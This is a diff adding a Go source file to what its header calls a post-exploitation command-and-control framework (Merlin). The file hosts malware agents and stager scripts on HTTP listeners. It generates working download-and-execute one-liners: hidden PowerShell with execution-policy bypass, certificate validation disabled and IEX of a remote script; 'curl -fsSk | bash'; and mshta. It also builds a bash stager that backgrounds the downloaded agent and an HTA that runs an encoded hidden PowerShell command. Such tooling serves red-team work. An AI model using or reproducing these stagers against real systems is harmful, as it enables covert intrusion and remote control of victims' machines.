@@ -0,0 +1,205 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+// Package stager hosts files at URIs on HTTP listeners so a small stager, started with a one-liner, can download and
+// launch the full agent. A stage is only served by the listener it was added to and only in response to a GET request.
+package stager
+
+import (
+	// Standard
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"path"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+	"unicode/utf16"
+
+	// 3rd Party
+	"github.com/satori/go.uuid"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/core"
+)
+
+// Stage is a file or stager script served by a listener
+type Stage struct {
+	Listener    uuid.UUID // The listener that serves the stage
+	URI         string    // The URL path the stage is served at
+	Type        string    // agent for an agent file, or the stager type: powershell, bash, or hta
+	File        string    // The file on the server the agent stage was read from
+	Hits        int       // The number of times the stage was downloaded
+	Created     time.Time // When the stage was added
+	content     []byte
+	contentType string
+}
+
+// stages are the hosted stages keyed by their listener and URI
+var stages = struct {
+	sync.Mutex
+	m map[string]*Stage
+}{m: make(map[string]*Stage)}
+
+// GetTypes returns the stager types that can be hosted
+func GetTypes() []string {
+	return []string{"bash", "hta", "powershell"}
+}
+
+// RandomURI returns a random URL path to host a stage at
+func RandomURI() string {
+	return "/" + core.RandStringBytesMaskImprSrc(12)
+}
+
+// HostAgent reads the agent file and hosts it on the listener at the URI
+func HostAgent(listener uuid.UUID, uri string, file string) (Stage, error) {
+	content, err := ioutil.ReadFile(file)
+	if err != nil {
+		return Stage{}, fmt.Errorf("there was an error reading the agent file %s:\r\n%s", file, err.Error())
+	}
+	return add(&Stage{Listener: listener, URI: uri, Type: "agent", File: file, content: content,
+		contentType: "application/octet-stream"})
+}
+
+// HostStager hosts a stager script of the type on the listener at the URI that downloads the agent from the agent URL
+// and runs it
+func HostStager(listener uuid.UUID, uri string, stagerType string, agentURL string) (Stage, error) {
+	s := &Stage{Listener: listener, URI: uri, Type: stagerType, contentType: "text/plain"}
+	switch stagerType {
+	case "powershell":
+		s.content = []byte(powershellStager(agentURL))
+	case "bash":
+		s.content = []byte(bashStager(agentURL))
+	case "hta":
+		s.content = []byte(htaStager(agentURL))
+		s.contentType = "application/hta"
+	default:
+		return Stage{}, fmt.Errorf("%s is not a valid stager type; use %s", stagerType, strings.Join(GetTypes(), ", "))
+	}
+	return add(s)
+}
+
+// add hosts the stage unless the listener already serves something at its URI
+func add(s *Stage) (Stage, error) {
+	if s.URI == "" || s.URI[0] != '/' || path.Clean(s.URI) != s.URI {
+		return Stage{}, fmt.Errorf("%s is not a valid URI; it must be an absolute URL path (i.e. /update)", s.URI)
+	}
+	s.Created = time.Now().UTC()
+	stages.Lock()
+	defer stages.Unlock()
+	key := s.Listener.String() + s.URI
+	if _, ok := stages.m[key]; ok {
+		return Stage{}, fmt.Errorf("the listener already hosts a stage at %s", s.URI)
+	}
+	stages.m[key] = s
+	return *s, nil
+}
+
+// Remove stops hosting the stage at the URI on the listener
+func Remove(listener uuid.UUID, uri string) error {
+	stages.Lock()
+	defer stages.Unlock()
+	key := listener.String() + uri
+	if _, ok := stages.m[key]; !ok {
+		return fmt.Errorf("the listener does not host a stage at %s", uri)
+	}
+	delete(stages.m, key)
+	return nil
+}
+
+// GetStages returns the hosted stages sorted by the time they were added
+func GetStages() []Stage {
+	stages.Lock()
+	var list []Stage
+	for _, s := range stages.m {
+		list = append(list, *s)
+	}
+	stages.Unlock()
+	sort.Slice(list, func(i, j int) bool { return list[i].Created.Before(list[j].Created) })
+	return list
+}
+
+// Serve writes the stage hosted by the listener at the request's URL path and returns false if there is not one, so
+// the listener can handle the request itself
+func Serve(listener uuid.UUID, w http.ResponseWriter, r *http.Request) bool {
+	if r.Method != http.MethodGet {
+		return false
+	}
+	stages.Lock()
+	s, ok := stages.m[listener.String()+r.URL.Path]
+	if ok {
+		s.Hits++
+	}
+	stages.Unlock()
+	if !ok {
+		return false
+	}
+	w.Header().Set("Content-Type", s.contentType)
+	w.WriteHeader(http.StatusOK)
+	_, _ = w.Write(s.content)
+	return true
+}
+
+// OneLiner returns the command that downloads and runs the stager of the type hosted at the URL
+func OneLiner(stagerType string, stagerURL string) (string, error) {
+	switch stagerType {
+	case "powershell":
+		return fmt.Sprintf("powershell -nop -w hidden -ep bypass -c \"%sIEX(New-Object Net.WebClient).DownloadString('%s')\"",
+			powershellTLS, stagerURL), nil
+	case "bash":
+		return fmt.Sprintf("curl -fsSk '%s' | bash", stagerURL), nil
+	case "hta":
+		return fmt.Sprintf("mshta %s", stagerURL), nil
+	}
+	return "", errors.New(fmt.Sprintf("%s is not a valid stager type; use %s", stagerType, strings.Join(GetTypes(), ", ")))
+}
+
+// powershellTLS allows PowerShell to download from listeners with self-signed certificates over TLS 1.2
+const powershellTLS = "[Net.ServicePointManager]::ServerCertificateValidationCallback={$true};" +
+	"[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;"
+
+// powershellStager returns a PowerShell script that downloads the agent to a temporary file and starts it hidden
+func powershellStager(agentURL string) string {
+	return powershellTLS +
+		fmt.Sprintf("$f=Join-Path $env:TEMP ([IO.Path]::GetRandomFileName()+'.exe');"+
+			"(New-Object Net.WebClient).DownloadFile('%s',$f);"+
+			"Start-Process -WindowStyle Hidden -FilePath $f", agentURL)
+}
+
+// bashStager returns a shell script that downloads the agent with curl or wget to a temporary file and starts it in
+// the background
+func bashStager(agentURL string) string {
+	return fmt.Sprintf("f=$(mktemp)\n"+
+		"(curl -fsSk '%[1]s' -o \"$f\" || wget -q --no-check-certificate '%[1]s' -O \"$f\") && "+
+		"chmod +x \"$f\" && nohup \"$f\" >/dev/null 2>&1 &\n", agentURL)
+}
+
+// htaStager returns an HTML Application that runs the PowerShell stager as an encoded command
+func htaStager(agentURL string) string {
+	// -EncodedCommand takes base64 of the UTF-16LE script
+	var encoded []byte
+	for _, c := range utf16.Encode([]rune(powershellStager(agentURL))) {
+		encoded = append(encoded, byte(c), byte(c>>8))
+	}
+	return fmt.Sprintf("<html><head><script language=\"VBScript\">\r\n"+
+		"CreateObject(\"WScript.Shell\").Run \"powershell -nop -w hidden -ep bypass -enc %s\", 0, False\r\n"+
+		"self.close\r\n"+
+		"</script></head><body></body></html>\r\n", base64.StdEncoding.EncodeToString(encoded))
+}